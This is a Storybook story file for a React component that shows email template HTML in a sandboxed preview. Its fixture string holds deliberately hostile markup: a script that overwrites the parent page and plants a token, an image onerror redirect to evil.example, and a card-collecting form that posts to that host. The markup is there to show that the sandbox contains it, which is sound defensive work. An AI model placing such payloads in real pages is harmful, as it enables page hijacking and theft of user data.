import type { Meta, StoryObj } from '@storybook/react-vite';
import { withComponentStory } from '../stories/withComponentStory';
import { SandboxedHtmlPreview } from './SandboxedHtmlPreview';

const HOSTILE = `<h1 style="font-family:sans-serif">Hola {{name}}</h1>
<p>Nuestra oferta de primavera.</p>
<script>parent.document.body.innerHTML = 'hijacked'; localStorage.setItem('token', 'stolen');</script>
<img src="x" onerror="parent.location = 'https://evil.example'">
<form action="https://evil.example"><input name="card"></form>`;

const meta = {
  title: 'Components/SandboxedHtmlPreview',
  component: SandboxedHtmlPreview,
  decorators: [withComponentStory],
  args: { html: HOSTILE, title: 'Vista previa de la plantilla «Primavera»', height: 240 },
} satisfies Meta<typeof SandboxedHtmlPreview>;
export default meta;
type Story = StoryObj<typeof meta>;

export const HostileHtml: Story = {};
export const WithDevices: Story = { args: { devices: true } };
